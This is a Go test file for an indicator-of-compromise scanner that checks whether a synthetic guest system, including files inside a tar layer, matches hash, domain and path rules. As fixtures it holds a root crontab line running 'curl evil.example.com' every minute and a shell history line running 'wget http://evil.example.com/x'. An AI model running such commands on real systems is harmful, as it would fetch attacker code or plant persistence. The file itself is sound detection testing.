package intel

import (
	"archive/tar"
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/guestctl/guestctl/internal/factstest"
	"github.com/guestctl/guestctl/scanner"
)

// layer is a tar of two files.
func layer(t *testing.T) string {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, f := range []struct{ name, content string }{{"usr/bin/x", nist}, {"etc/crontab", "* * * * * root curl evil.example.com\n"}} {
		if err := w.WriteHeader(&tar.Header{Name: f.name, Size: int64(len(f.content)), Mode: 0o644}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(f.content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestAScan scans a whole guest, with archives.
func TestAScan(t *testing.T) {
	e := load(t, Options{Now: day(t)}, write(t, "feed.txt", nistSHA256+"\nevil.example.com\n/tmp/.x/*\n"))
	good, err := LoadKnownGood(t.Context(), []string{write(t, "good.txt", nistMD5)})
	if err != nil {
		t.Fatal(err)
	}
	guest := factstest.Guest(t, factstest.Text(map[string]string{
		"/usr/bin/bad": nist, "/root/.bash_history": "ls\nwget http://evil.example.com/x\n", "/usr/share/doc/x": "evil.example.com", "/tmp/.x/a": "",
		"/var/lib/layer.tar": layer(t), "/clean": "nothing",
	}))
	for _, c := range []struct {
		name  string
		known func(*scanner.Object) bool
		want  []string
	}{
		{"feeds alone", nil, []string{
			"/root/.bash_history  domain:evil.example.com", "/tmp/.x/a  glob:/tmp/.x/*", "/usr/bin/bad  sha256:" + nistSHA256,
			"/var/lib/layer.tar etc/crontab domain:evil.example.com", "/var/lib/layer.tar usr/bin/x sha256:" + nistSHA256,
		}},
		{"with known good files", good.Is, []string{
			"/root/.bash_history  domain:evil.example.com", "/tmp/.x/a  glob:/tmp/.x/*",
			"/var/lib/layer.tar etc/crontab domain:evil.example.com", "/var/lib/layer.tar usr/bin/x sha256:" + nistSHA256,
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			r, err := scanner.Run(t.Context(), guest, scanner.Options{Engines: []scanner.Engine{e}, Archives: true, KnownGood: c.known})
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, h := range r.Hits {
				got = append(got, fmt.Sprintf("%s %s %s", h.File.Path, h.File.Member, h.Match.Rule))
			}
			same(t, "hits", got, c.want)
			if !r.Complete() {
				t.Errorf("not looked into: %v", r.Unscanned)
			}
		})
	}
}

// TestIndicatorsThatAreTooManyAreTold has a file in which more stands than is taken down, whatever the last of it is.
func TestIndicatorsThatAreTooManyAreTold(t *testing.T) {
	var names strings.Builder
	for i := range maxMatches + 1 {
		fmt.Fprintf(&names, "n%03d.evil.example.com\n", i)
	}
	e := load(t, Options{}, write(t, "domains.txt", names.String()))
	s, err := e.Open(t.Context(), nil)
	if err != nil {
		t.Fatal(err)
	}
	for content, want := range map[string]string{
		names.String(): "limit: more than 100 indicators stand in it",
		strings.Repeat("n001.evil.example.com\n", maxMatches+1): "<nil>",
	} {
		if found, err := s.Scan(t.Context(), object("/etc/hosts", "", content)); fmt.Sprint(err) != want {
			t.Errorf("%d matches, %v; want %s", len(found), err, want)
		}
	}
}
